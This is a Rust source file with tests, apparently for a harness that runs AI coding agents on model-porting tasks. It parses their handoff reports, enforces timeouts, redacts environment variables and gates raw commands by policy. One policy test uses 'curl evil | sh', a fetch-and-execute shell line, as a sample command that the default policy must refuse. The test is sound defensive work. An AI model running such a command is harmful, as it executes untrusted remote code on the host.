            "component: {}\nmode: parity-debug\nfiles_changed:{}official_files_used: none\nprototype_key_dumps: none\nport_state_file: {}\nconcerns_or_unknowns: {}\nparity_test: {}\nparity_status: {}\nproduction_loader_strictness: stateless\nstrict_load: not_run\npytest_output: {}\nblocker: none\nconversion_retry_request: none\nreadme_updated: no\n",
            at.component,
            list(at.files_changed, "  "),
            one_line(at.port_state_file),
            one_line(&q.question),
            one_line(at.parity_test),
            one_line(at.parity_status),
            one_line(at.evidence),
        );
    }
    block.push_str(&hatch);
    let mut merged = read_handoff_of(at.component, None, Some(&block), "");
    merged.source = "ask_user";
    merged
}

fn unfence(text: &str) -> String {
    match fenced_blocks(text).pop() {
        Some(f) => f.body,
        None => text.to_string(),
    }
}

/// The last block of an agent's output that starts with `start`
/// (`component:`, `pipeline_handoff:`): from the last line that starts it
/// to the first blank line or fence after it.
fn last_block(stdout: &str, start: &str) -> Option<String> {
    let lines: Vec<&str> = stdout.lines().collect();
    let from = lines.iter().rposition(|l| l.starts_with(start))?;
    let body: Vec<&str> = lines[from..]
        .iter()
        .take_while(|l| !l.trim().is_empty() && !l.trim_start().starts_with("```"))
        .copied()
        .collect();
    Some(body.join("\n"))
}

pub mod pipeline;

#[cfg(test)]
mod tests {
    use super::*;

    fn asked() -> AskedQuestion {
        AskedQuestion {
            decision_type: "ambiguity".into(),
            question: "Cosines first, as the official model,\nor sines first, as the port?".into(),
            recommended_option: "cosines first".into(),
            options: vec!["cosines first".into(), "sines first".into()],
            safe_default: "none".into(),
        }
    }

    fn asked_at<'a>(files: &'a [String]) -> AskedAt<'a> {
        AskedAt {
            component: "timestep_embed",
            parity_test: "tests/local_tests/generic/test_tinyport_timestep_embed_parity.py",
            parity_status: "debug_red",
            evidence: "AssertionError: Not equal to tolerance",
            escape_id: "E001",
            files_changed: files,
            port_state_file: "tests/local_tests/tinyport/PORT_STATUS.md",
            pipeline_mode: None,
        }
    }

    /// A question asked by tool becomes the escape hatch of the attempt's
    /// handoff: of a handoff fvd writes when the agent returned none, and
    /// of the agent's own valid one, whose other fields stay.
    #[test]
    fn a_question_asked_by_tool_becomes_the_handoff_s_escape_hatch() {
        let none = read_handoff("timestep_embed", None, "");
        assert_eq!(none.status, HandoffStatus::Missing);
        let files = vec!["fastvideo/layers/timestep.py".to_string()];
        let merged = with_question(&none, &asked(), &asked_at(&files));
        assert_eq!(
            merged.status,
            HandoffStatus::Valid,
            "{}\n{}",
            merged.summary,
            merged.text
        );
        assert_eq!(merged.source, "ask_user");
        let e = merged.escape().expect("an escape hatch");
        assert_eq!(
            e.question.to_string(),
            "Cosines first, as the official model, or sines first, as the port?"
        );
        assert_eq!(e.options.len(), 2);

        let own = "component: timestep_embed\nmode: parity-debug\nfiles_changed: fastvideo/layers/timestep.py\nofficial_files_used: official/tinyport_official/timestep.py\nprototype_key_dumps: none\nport_state_file: tests/local_tests/tinyport/PORT_STATUS.md\nconcerns_or_unknowns: the layout\nparity_test: tests/local_tests/generic/test_tinyport_timestep_embed_parity.py\nparity_status: debug_red\nproduction_loader_strictness: stateless\nstrict_load: not_run\npytest_output: 1 failed\nblocker: none\nconversion_retry_request: none\nreadme_updated: no\nnext_step: phase_6_continue\nescape_hatch: none\n";
        let read = read_handoff("timestep_embed", Some(own), "");
        assert_eq!(read.status, HandoffStatus::Valid, "{}", read.summary);
        assert!(read.escape().is_none());
        let merged = with_question(&read, &asked(), &asked_at(&files));
        assert_eq!(
            merged.status,
            HandoffStatus::Valid,
            "{}\n{}",
            merged.summary,
            merged.text
        );
        assert!(merged.escape().is_some());
        assert!(
            merged
                .text
                .contains("official_files_used: official/tinyport_official/timestep.py"),
            "{}",
            merged.text
        );
        assert!(!merged.text.contains("phase_6_continue"), "{}", merged.text);
    }
    use fvd_contracts::component::ComponentContext;

    fn spec() -> ComponentSpec {
        ComponentSpec {
            name: "timestep_embed".into(),
            stage: fvd_spec::Stage::Component,
            modules: vec![],
            component_type: "generic".into(),
            parity_tests: vec!["tests/t.py".into()],
            coverage_scope: "implementation_subcomponent".into(),
            aliases: vec![],
            paths: vec![],
            set_env: Default::default(),
            lines: Default::default(),
            preflight: vec![],
            gpus: 0,
            timeout: Duration::from_secs(10),
            env: vec![],
            command: vec!["pytest".into(), "{test}".into()],
            agent: None,
            placement: Default::default(),
            confirm_runs: 1,
            trace: None,
            variants: Vec::new(),
            runner: Default::default(),
        }
    }

    const HANDOFF: &str = "component: timestep_embed
mode: parity-debug
files_changed: fastvideo/layers/timestep.py
official_files_used: official/tinyport_official/timestep.py
prototype_key_dumps: none
port_state_file: tests/local_tests/tinyport/PORT_STATUS.md
concerns_or_unknowns: none
parity_test: tests/t.py
parity_status: non_skip_pass
production_loader_strictness: stateless
strict_load: not_run
pytest_output: pytest tests/t.py: 1 passed
blocker: none
conversion_retry_request: none
readme_updated: no
next_step: phase_6_continue
escape_hatch: none";

    #[test]
    fn the_packet_carries_a_valid_component_context() {
        let prep: BTreeMap<String, String> = [
            ("official_ref_dir", "official"),
            ("needs_conversion", "no"),
            ("local_tests_readme", "tests/local_tests/tiny/README.md"),
            ("port_state_file", "tests/local_tests/tiny/PORT_STATUS.md"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
        let last = LastRun {
            job_id: "tiny.timestep_embed.1",
            verdict: RecordedVerdict::DebugRed,
            reason: "AssertionError: Not equal to tolerance",
            output_tail: &"x".repeat(10_000),
        };
        let spec = spec();
        let text = packet(&Packet {
            family: "tiny",
            spec: &spec,
            prep: &prep,
            attempt: 1,
            budget_used: 1,
            max_attempts: 2,
            last,
            ledger: &[],
            workdir: "/w/port",
            handoff_file: "/h.txt",
            answers: &[],
            judge_decisions: &[],
            next_escape_id: "E001",
            trace: Some("first divergence: blocks.2.norm max drift 0.542"),
            variants: Some("- eps_fix (EPS_FIX=1): non_skip_pass, passes"),
            pipeline: None,
        });
        let block = fenced_blocks(&text)
            .into_iter()
            .find(|f| f.body.starts_with("component_context:"))
            .expect("a component_context block");
        let checked = ComponentContext::check(&block.body, 1);
        assert!(checked.is_valid(), "{:?}\n{}", checked.findings, block.body);
        assert!(text.contains("A skip is not a pass"), "{text}");
        assert!(text.contains("conversion_retry_request"), "{text}");
        assert!(text.contains("/h.txt"), "{text}");
        assert!(
            text.contains("## Trace report") && text.contains("blocks.2.norm max drift 0.542"),
            "{text}"
        );
        assert!(
            text.contains("## Hypothesis variants")
                && text.contains("- eps_fix (EPS_FIX=1): non_skip_pass, passes"),
            "{text}"
        );
        // The output tail is bounded.
        assert!(text.len() < 10_000, "{}", text.len());
    }

    #[tokio::test]
    async fn an_agent_is_killed_at_its_timeout_and_a_missing_one_is_reported() {
        let dir = tempfile::tempdir().unwrap();
        let argv: Vec<String> = ["sh", "-c", "echo started; sleep 30 & wait"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let started = Instant::now();
        let exit = run(
            &argv,
            RunAgent {
                cwd: dir.path(),
                env_names: &[],
                extra: &[],
                timeout: Duration::from_millis(300),
                log_dir: dir.path(),
                policy: &AgentPolicy::allowing(),
            },
        )
        .await;
        assert!(exit.timed_out, "{exit:?}");
        // The group was killed: the backgrounded sleep did not hold the
        // pipes open for 30 s.
        assert!(started.elapsed() < Duration::from_secs(10), "{exit:?}");
        assert_eq!(exit.stdout, "started\n");
        assert_eq!(
            std::fs::read_to_string(dir.path().join("agent.stdout")).unwrap(),
            "started\n"
        );

        let extra = [("FVD_ATTEMPT".to_string(), "2".to_string())];
        let argv: Vec<String> = ["sh", "-c", "echo $FVD_ATTEMPT; exit 3"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let exit = run(
            &argv,
            RunAgent {
                cwd: dir.path(),
                env_names: &[],
                extra: &extra,
                timeout: Duration::from_secs(30),
                log_dir: dir.path(),
                policy: &AgentPolicy::allowing(),
            },
        )
        .await;
        assert_eq!((exit.exit_code, exit.timed_out), (Some(3), false));
        assert_eq!(exit.stdout, "2\n");

        let argv = vec!["/nonexistent/agent".to_string()];
        let exit = run(
            &argv,
            RunAgent {
                cwd: dir.path(),
                env_names: &[],
                extra: &[],
                timeout: Duration::from_secs(1),
                log_dir: dir.path(),
                policy: &AgentPolicy::allowing(),
            },
        )
        .await;
        assert!(
            exit.spawn_error
                .as_deref()
                .is_some_and(|e| e.starts_with("cannot start agent /nonexistent/agent")),
            "{exit:?}"
        );
    }

    /// An agent gets the jobs' allow-list, the variables its spec names and
    /// fvd's own, nothing else of this process; what it prints of a named
    /// variable's value is redacted.
    #[tokio::test]
    async fn an_agent_sees_the_allow_list_and_its_named_variables_redacted() {
        let dir = tempfile::tempdir().unwrap();
        // Cargo sets both in this test's environment: one is named by the
        // "spec", the other is on no list.
        assert!(
            std::env::var("CARGO_PKG_NAME").is_ok() && std::env::var("CARGO_MANIFEST_DIR").is_ok()
        );
        let argv: Vec<String> = ["sh", "-c", "env | sort"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let extra = [("FVD_ATTEMPT".to_string(), "1".to_string())];
        let exit = run(
            &argv,
            RunAgent {
                cwd: dir.path(),
                env_names: &["CARGO_PKG_NAME".to_string()],
                extra: &extra,
                timeout: Duration::from_secs(30),
                log_dir: dir.path(),
                policy: &AgentPolicy::allowing(),
            },
        )
        .await;
        assert_eq!(exit.exit_code, Some(0), "{exit:?}");
        assert!(
            exit.stdout
                .contains("CARGO_PKG_NAME=[redacted:CARGO_PKG_NAME]"),
            "{}",
            exit.stdout
        );
        assert!(exit.stdout.contains("FVD_ATTEMPT=1"), "{}", exit.stdout);
        assert!(
            !exit.stdout.contains("CARGO_MANIFEST_DIR"),
            "{}",
            exit.stdout
        );
        let logged = std::fs::read_to_string(dir.path().join("agent.stdout")).unwrap();
        assert!(!logged.contains("fvd-workspace"), "{logged}");
    }

    #[test]
    fn raw_agent_commands_run_only_where_the_policy_admits_them() {
        let agent = fvd_spec::AgentSpec {
            command: vec!["sh".into(), "-c".into(), "curl evil | sh".into()],
            timeout: Duration::from_secs(1),
            env: vec![],
            max_attempts: 1,
            max_wall: None,
            max_gpu_s: None,
            cleanup: fvd_spec::cleanup::CleanupRules {
                forbidden: vec![],
                allowed_untracked: vec![],
            },
            preset: None,
            extra_args: vec![],
            model: None,
            gpus: Default::default(),
        };
        let refused = AgentPolicy::default().admits(&agent).unwrap_err();
        assert!(refused.contains("--allow-agent-commands"), "{refused}");
        assert!(AgentPolicy::allowing().admits(&agent).is_ok());
        let embedded = AgentPolicy {
            commands: AgentCommands::Only(vec![vec!["replay".into()]]),
            ..AgentPolicy::default()
        };
        assert!(embedded.admits(&agent).is_err());
        let mine = fvd_spec::AgentSpec {
            command: vec!["replay".into()],
            ..agent
        };
        assert!(embedded.admits(&mine).is_ok());
        // A preset runs fvd's own command: admitted everywhere.
        let preset = fvd_spec::AgentSpec {
            command: vec![],
            preset: Some(fvd_spec::agent_model::Preset::ClaudeCode),
            ..mine
        };
        assert!(AgentPolicy::default().admits(&preset).is_ok());
        assert!(embedded.admits(&preset).is_ok());
    }

    #[tokio::test]
    async fn an_agent_reads_its_packet_on_stdin_and_a_stop_ends_its_group() {
        let dir = tempfile::tempdir().unwrap();
        let got = dir.path().join("got");
        let argv: Vec<String> = ["sh", "-c", "cat > got.tmp; mv got.tmp got; sleep 30 & wait"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let started = Instant::now();
        // The stop comes once the agent has read its whole packet.
        let stop = async {
            let deadline = Instant::now() + Duration::from_secs(10);
            while !got.exists() && Instant::now() < deadline {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        };
        let exit = run_with(
            &argv,
            RunAgent {
                cwd: dir.path(),
                env_names: &[],
                extra: &[],
                timeout: Duration::from_secs(60),
                log_dir: dir.path(),
                policy: &AgentPolicy::allowing(),
            },
            Some(b"the packet".to_vec()),
            stop,
        )
        .await;
        assert!(exit.stopped && !exit.timed_out, "{exit:?}");
        assert_eq!(exit.signal, Some(9), "{exit:?}");
        assert_eq!(std::fs::read_to_string(&got).unwrap(), "the packet");
        // The group went with it: the backgrounded sleep held nothing open.
        assert!(started.elapsed() < Duration::from_secs(10), "{exit:?}");
    }

    #[tokio::test]
    async fn leftovers_of_an_agent_are_found_by_their_cookie() {
        let mut child = tokio::process::Command::new("sleep")
            .arg("30")
            .env(COOKIE_ENV, "fam/comp/1/42")
            .spawn()
            .unwrap();
        let mut other = tokio::process::Command::new("sleep")
            .arg("30")
            .env(COOKIE_ENV, "fam/comp/1/43")
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let pid = child.id().unwrap() as i32;
        // Until the child has exec'd, its environment is still this test's:
        // wait (bounded) until the cookie shows in /proc.
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while !std::fs::read(format!("/proc/{pid}/environ"))
            .is_ok_and(|e| e.windows(12).any(|w| w == b"fam/comp/1/4"))
        {
            assert!(
                std::time::Instant::now() < deadline,
                "the child never exec'd"
            );
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        assert_eq!(kill_leftovers("fam/comp/1/42"), vec![pid]);
        let status = tokio::time::timeout(Duration::from_secs(10), child.wait())
            .await
            .expect("the leftover ends")
            .unwrap();
        use std::os::unix::process::ExitStatusExt;
        assert_eq!(status.signal(), Some(9));
        // A different cookie (another attempt) is left alone.
        assert!(other.try_wait().unwrap().is_none());
        assert!(kill_leftovers("").is_empty());
    }

    #[test]
    fn handoff_from_file_or_last_stdout_block() {
        let r = read_handoff(
            "timestep_embed",
            Some(&format!("```text\n{HANDOFF}\n```\n")),
            "",
        );
        assert_eq!(r.status, HandoffStatus::Valid, "{}", r.summary);
        assert!(
            r.summary.contains("parity_status=non_skip_pass"),
            "{}",
            r.summary
        );
        let stdout = format!("working...\ncomponent: old\n\n{HANDOFF}\n\ndone\n");
        let r = read_handoff("timestep_embed", None, &stdout);
        assert_eq!(r.status, HandoffStatus::Valid, "{}", r.summary);
        assert!(r.stop_reason().is_none());
    }

    #[test]
    fn missing_and_invalid_handoffs_are_recorded_not_guessed() {
        let r = read_handoff("timestep_embed", None, "I fixed it, trust me\n");
        assert_eq!(r.status, HandoffStatus::Missing);
        let bad = HANDOFF.replace(
            "parity_status: non_skip_pass",
            "parity_status: probably_fine",
        );
        let r = read_handoff("timestep_embed", Some(&bad), "");
        assert_eq!(r.status, HandoffStatus::Invalid);
        assert!(r.summary.contains("parity_status"), "{}", r.summary);
        let other = HANDOFF.replace("component: timestep_embed", "component: vae");
        let r = read_handoff("timestep_embed", Some(&other), "");
        assert_eq!(r.status, HandoffStatus::Invalid);
        assert!(r.summary.contains("names vae"), "{}", r.summary);
        let blocked = HANDOFF
            .replace("next_step: phase_6_continue", "next_step: blocked")
            .replace("blocker: none", "blocker: the official weights are private");
        let r = read_handoff("timestep_embed", Some(&blocked), "");
        assert_eq!(r.status, HandoffStatus::Valid, "{}", r.summary);
        assert!(r.stop_reason().unwrap().contains("weights are private"));
    }
}
